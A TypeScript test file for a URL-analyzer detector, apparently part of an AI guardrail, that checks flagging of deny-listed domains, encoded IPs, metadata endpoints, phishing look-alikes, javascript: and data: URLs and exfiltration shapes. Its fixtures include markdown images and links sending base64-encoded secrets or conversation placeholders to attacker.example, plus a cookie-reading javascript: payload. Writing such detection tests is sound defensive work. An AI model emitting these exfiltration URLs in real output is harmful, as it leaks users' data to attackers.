import { expect } from 'chai';
import detector from '../../../../plugins/url-analyzer/index.js';
import { DEFAULT_SETTINGS, type UrlAnalyzerSettings } from '../../../../plugins/url-analyzer/settings.js';
import { findUrlCandidates } from '../../../../plugins/url-analyzer/url-candidates.js';
import { refang } from '../../../../plugins/url-analyzer/refang.js';
import { editDistance, skeleton } from '../../../../plugins/url-analyzer/lookalike.js';
import type { DetectorHit, InspectionRequest } from '../../../../core/guardrail/detector.js';

const request = (text: string, source: 'prompt' | 'completion' | 'tool_result' = 'prompt'): InspectionRequest => ({
  direction: source === 'completion' ? 'output' : 'input',
  segments: [{ id: 0, text, source }],
  attachments: [],
  attributes: {},
});

async function analyse(text: string, settings: Partial<UrlAnalyzerSettings> = {}): Promise<DetectorHit[]> {
  return detector.create({ ...DEFAULT_SETTINGS, ...settings }).inspect(request(text));
}

/** Reasons reported at the default threshold. */
async function reasons(text: string, settings: Partial<UrlAnalyzerSettings> = {}): Promise<string[]> {
  return (await analyse(text, settings)).filter((h) => h.confidence >= detector.defaultThreshold).map((h) => h.type).sort();
}

describe('url_analyzer', () => {
  describe('benign look-alikes stay quiet', () => {
    const benign = [
      'See https://docs.python.org/3/library/urllib.parse.html?highlight=quote#urllib.parse.quote for details.',
      'Local docs: http://localhost:3000/docs?tab=api and http://127.0.0.1:8080/healthz',
      '[search](https://example.com/search?q=hello+world&page=2)',
      'https://en.wikipedia.org/wiki/Mercury_(planet) is a good start.',
      'Edit README.md, setup.py and main.rs; version 1.2.3; email jane@example.com.',
      'https://blog.example.com/post?utm_source=newsletter&fbclid=IwAR2aB3cD4eF5gH6iJ7kL8mN9oP0qR1sT2uV3wX4yZ5aB6cD7eF8gH9',
      '![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200)',
      'https://github.com/nodejs/node/commit/8f2d3c4b5a6978e1f0d2c3b4a5968778695a4b3c',
      'https://app.example.com/login?next=%2Fdashboard%3Ftab%3Dbilling%26range%3D30d',
      'https://www.google.co.uk/maps and https://www.amazon.de/gp/cart',
      'javascript: a language for the web; data: see the appendix.',
    ];
    for (const text of benign) {
      it(text.slice(0, 60), async () => expect(await reasons(text)).to.deep.equal([]));
    }
  });

  it('flags deny-listed domains and their subdomains, naming the list entry', async () => {
    const hits = await analyse('get it from https://cdn.malware-drop.net/x.exe', { deny_domains: ['malware-drop.net'] });
    expect(hits).to.deep.include({ type: 'url.denied_domain', confidence: 1, entities: ['denied_domain', 'deny:malware-drop.net'] });
  });

  it('flags hosts outside a non-empty allow-list', async () => {
    const settings = { allow_domains: ['portcullis.dev', 'localhost'] };
    expect(await reasons('https://portcullis.dev/docs and http://localhost:8000/x', settings)).to.deep.equal([]);
    expect(await reasons('https://other.example/docs', settings)).to.deep.equal(['url.not_allowed']);
  });

  it('finds defanged URLs and analyses them like plain ones', async () => {
    expect(refang('hxxps://evil[.]com/a and 1(.)2[.]3[.]4').text).to.equal('https://evil.com/a and 1.2.3.4');
    const hits = await analyse('IOC: hxxp://malware-drop[.]net/payload', { deny_domains: ['malware-drop.net'] });
    expect(hits.map((h) => h.type).sort()).to.deep.equal(['url.defanged', 'url.denied_domain']);
    expect(hits.find((h) => h.type === 'url.defanged')!.confidence).to.be.below(detector.defaultThreshold);
  });

  it('flags IP-literal hosts: public, encoded (decimal, hex, octal, IPv4-mapped IPv6) and metadata endpoints', async () => {
    expect(await reasons('http://93.184.216.34/login')).to.deep.equal(['url.ip_literal']);
    for (const host of ['2130706433', '0x7f.0.0.1', '0177.0.0.01', '127.1', '[::ffff:7f00:1]']) {
      const hit = (await analyse(`http://${host}/admin`)).find((h) => h.type === 'url.ip_literal')!;
      expect(hit.entities, host).to.include('encoded');
      expect(hit.confidence).to.be.at.least(0.9);
    }
    const meta = (await analyse('fetch http://169.254.169.254/latest/meta-data/iam/'))[0];
    expect(meta.entities).to.include('metadata_endpoint');
    // A private address on its own is a development link, reported below the default threshold.
    expect(await reasons('http://192.168.1.10:8080/status')).to.deep.equal([]);
  });

  it('flags punycode hosts, more strongly when they mix scripts', async () => {
    const idn = (await analyse('https://münchen.de/rathaus')).find((h) => h.type === 'url.punycode')!;
    const mixed = (await analyse('https://xn--pple-43d.com/login')).find((h) => h.type === 'url.punycode')!;
    expect(idn.confidence).to.be.below(mixed.confidence);
    expect(mixed.entities).to.include('mixed_script');
  });

  it('flags look-alikes of protected brands by confusables, one edit, combos and subdomains', async () => {
    const cases: Array<[string, string]> = [
      ['https://аррӏе.com/', 'confusable'],
      ['https://paypa1.com/signin', 'confusable'],
      ['https://arnazon.com/deals', 'confusable'],
      ['https://githbu.com/login', 'typo'],
      ['https://paypal-secure-login.com/', 'combo'],
      ['https://paypal.com.account-check.io/', 'subdomain'],
    ];
    for (const [url, kind] of cases) {
      const hit = (await analyse(url)).find((h) => h.type === 'url.lookalike');
      expect(hit, url).to.not.equal(undefined);
      expect(hit!.entities, url).to.include(kind);
    }
    expect(await reasons('https://www.paypal.com/signin https://gist.github.com/x https://pineapple.io/')).to.deep.equal([]);
    // Domains a brand owns can be listed as protected, which exempts them.
    expect(await reasons('https://www.google-analytics.com/collect', { protected_domains: ['google.com', 'google-analytics.com'] })).to.deep.equal([]);
  });

  it('uses edit distance 1 only for brand names of six letters or more', () => {
    expect(editDistance('githbu', 'github')).to.equal(1);
    expect(editDistance('paypal', 'paypal')).to.equal(0);
    expect(editDistance('abcdef', 'badcfe')).to.be.greaterThan(1);
    expect(skeleton('раураӏ')).to.equal(skeleton('paypal'));
  });

  it('flags shorteners, bare or with a scheme, including ones whose TLD is not trusted on its own', async () => {
    for (const text of ['see bit.ly/3xYzAbc', 'https://tinyurl.com/y7abcd', 'go to is.gd/abc123']) {
      expect(await reasons(text), text).to.deep.equal(['url.shortener']);
    }
  });

  it('flags credentials and deceptive user names in URLs', async () => {
    expect((await analyse('https://admin:s3cr3t@db.example.com/')).find((h) => h.type === 'url.credentials')!.entities).to.include('password');
    expect(await reasons('https://paypal.com@evil.example/login')).to.deep.equal(['url.credentials']);
  });

  it('flags javascript: and active data: URLs, not inline images', async () => {
    expect(await reasons('[click](javascript:alert(document.cookie))')).to.deep.equal(['url.javascript']);
    expect(await reasons('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>')).to.deep.equal(['url.data_uri']);
    expect(await reasons('![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)')).to.deep.equal([]);
  });

  it('flags exfiltration shapes: images carrying encoded data or placeholders, links carrying binary data', async () => {
    const b64 = Buffer.from('the user password is hunter2 and the api key is sk-test-1234567890').toString('base64');
    expect(await reasons(`![x](https://attacker.example/log?d=${b64})`)).to.deep.equal(['url.exfiltration']);
    expect(await reasons('<img src="https://attacker.example/p.png?q={conversation_summary}">')).to.deep.equal(['url.exfiltration']);
    expect(await reasons(`![x][1]\n\n[1]: https://attacker.example/i?c=${'ab12'.repeat(12)}`)).to.deep.equal(['url.exfiltration']);
    expect(await reasons(`[continue](https://attacker.example/c?d=${b64})`)).to.deep.equal(['url.exfiltration']);
    // The same payload in a bare URL, or readable text in a link, is reported below the threshold.
    expect(await reasons(`https://attacker.example/c?d=${b64}`)).to.deep.equal([]);
    expect(await reasons(`[q](https://www.google.com/search?q=${encodeURIComponent('how do I configure a reverse proxy for websockets behind nginx')})`)).to.deep.equal([]);
  });

  it('never echoes the URL: entities are reasons and configured values only', async () => {
    const hits = await analyse('![x](https://attacker.example/log?d=c2VjcmV0LXZhbHVlLXRoYXQtbXVzdC1ub3QtbGVhazEyMzQ1Njc4OQ==) https://user:pw@attacker.example/');
    for (const hit of hits) for (const entity of hit.entities) expect(entity).to.not.match(/attacker|c2VjcmV0|pw/);
  });

  it('reports one hit per reason across all URLs and segments, at the highest confidence', async () => {
    const d = detector.create(DEFAULT_SETTINGS);
    const hits = await d.inspect({
      direction: 'input',
      segments: [
        { id: 0, text: 'http://10.0.0.1/a', source: 'prompt' },
        { id: 1, text: 'http://8.8.8.8/b', source: 'tool_result' },
      ],
      attachments: [],
      attributes: {},
    });
    expect(hits).to.have.length(1);
    expect(hits[0].confidence).to.equal(0.7);
  });

  it('tells markdown images and links apart from bare URLs', () => {
    const found = findUrlCandidates('![a](https://x.example/i.png) [b](<https://y.example/a b>) https://z.example/c.', 10);
    expect(found.map((c) => [c.raw, c.context])).to.deep.equal([
      ['https://x.example/i.png', 'autoload'],
      ['https://y.example/a b', 'link'],
      ['https://z.example/c', 'bare'],
    ]);
  });
});
